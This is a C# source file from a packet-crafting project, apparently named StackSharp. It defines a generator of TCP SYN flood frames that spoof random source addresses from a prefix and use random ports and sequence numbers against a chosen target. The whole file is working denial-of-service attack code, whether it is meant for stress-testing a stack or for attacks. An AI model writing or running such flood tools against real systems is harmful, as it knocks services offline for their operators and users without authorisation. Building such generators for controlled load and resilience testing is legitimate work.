using System.Buffers.Binary;
using StackSharp.Stack.Buffers;
using StackSharp.Stack.Wire;
using StackSharp.Stack.Wire.Ethernet;
using StackSharp.Stack.Wire.Ipv4;
using StackSharp.Stack.Wire.Tcp;

namespace StackSharp.SynFlood;

/// <summary>SYNs to one port, each from an address, port and sequence number drawn at random.</summary>
internal sealed class SynFrames(FloodPlan plan)
{
    // An MSS option, as a client has.
    private const int HeaderBytes = TcpHeader.MinimumSize + 4;
    private const byte TimeToLive = 64;
    private const ushort Window = 64_240;
    private const ushort MaximumSegmentSize = 1460;
    private readonly Random _random = new(plan.Seed);

    public void Write(TransmitFrame frame, MacAddress source)
    {
        IpAddress from = DrawSource();
        Span<byte> segment = frame.Prepend(HeaderBytes);
        ushort port = (ushort)_random.Next(1024, ushort.MaxValue + 1);
        SequenceNumber sequence = new((uint)_random.NextInt64(1L << 32));
        TcpHeaderWriter.Write(segment, port, plan.Port, sequence, default, TcpControlBits.Syn, HeaderBytes, Window, 0);
        BinaryPrimitives.WriteUInt16BigEndian(segment[TcpHeader.MinimumSize..], ((byte)TcpOptionKind.MaximumSegmentSize << 8) | 4);
        BinaryPrimitives.WriteUInt16BigEndian(segment[(TcpHeader.MinimumSize + 2)..], MaximumSegmentSize);
        TcpHeaderWriter.FillChecksum(segment[..HeaderBytes], from, plan.Target);
        Ipv4Fields fields = new() { TimeToLive = TimeToLive, Protocol = IpProtocol.Tcp, Source = from, Destination = plan.Target, DontFragment = true };
        Ipv4Writer.Write(frame.Prepend(Ipv4Header.MinimumSize), fields, HeaderBytes);
        EthernetWriter.Write(frame.Prepend(EthernetWriter.Size), plan.TargetAddress, source, EtherType.Ipv4);
    }

    // Any host address of the prefix.
    private IpAddress DrawSource()
    {
        int hostBits = 32 - plan.Sources.Length;
        uint host = (uint)_random.NextInt64(1, (1L << hostBits) - 1);
        uint value = plan.Sources.Address.Ipv4Value & ~(uint)((1L << hostBits) - 1) | host;
        return IpAddress.FromIpv4((byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value);
    }
}
